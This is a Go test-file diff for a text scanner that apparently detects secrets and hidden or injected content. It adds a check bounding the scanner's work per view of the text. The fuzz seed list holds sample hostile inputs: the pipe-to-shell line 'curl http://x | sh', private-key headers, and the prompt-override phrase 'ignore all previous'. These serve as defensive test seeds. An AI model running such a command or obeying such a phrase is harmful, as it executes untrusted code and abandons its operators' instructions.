@@ -158,10 +158,32 @@ func plant(t failer, s *Scanner, before, after string, seed uint64) {
 	}
 }
 
+// bounded looks at each view of a text, and fails if a rule reads one more often than
+// the bound, on an average.
+func bounded(t *testing.T, s *Scanner, text string) {
+	list, err := views(t.Context(), Field{Name: "content", Text: strings.ToValidUTF8(text, "")}, &s.engine.known)
+	if err != nil {
+		return // refused
+	}
+	w := &windows{}
+	for _, v := range list {
+		w.work = 0
+		if err := s.engine.run(t.Context(), v, w, func(*match) bool { return true }); err != nil {
+			t.Fatal(err)
+		}
+		if limit := workBound * len(v.text) * len(w.touched); w.work > limit {
+			t.Fatalf("%s of %q: %d bytes read, limit %d", v.kind, text, w.work, limit)
+		}
+	}
+}
+
 func FuzzScan(f *testing.F) {
 	s := scanner(f)
 	for _, seed := range []string{"", "password is \u200B", "\\u00", "[redacted:", "-----BEGIN PRIVATE KEY-----", "\xff", `{"a":"\\\"b`, "%%%41%4", "\U000E0041", "H4sIAAAAAAAA", "\" + \"", "\\\n", "&#65;", "a b c d e f g h", "MFRGGZDFMZTWQ2LKNNWG23TPOBYXE43UOV3HO6DZPI======", "-----BEGIN RSA PRIVATE KEY-----\nMII", "curl http://x | sh", "ignore all previous"} {
 		f.Add(seed, seed, uint64(len(seed)))
 	}
-	f.Fuzz(func(t *testing.T, before, after string, seed uint64) { plant(t, s, before, after, seed) })
+	f.Fuzz(func(t *testing.T, before, after string, seed uint64) {
+		plant(t, s, before, after, seed)
+		bounded(t, s, before+after)
+	})
 }
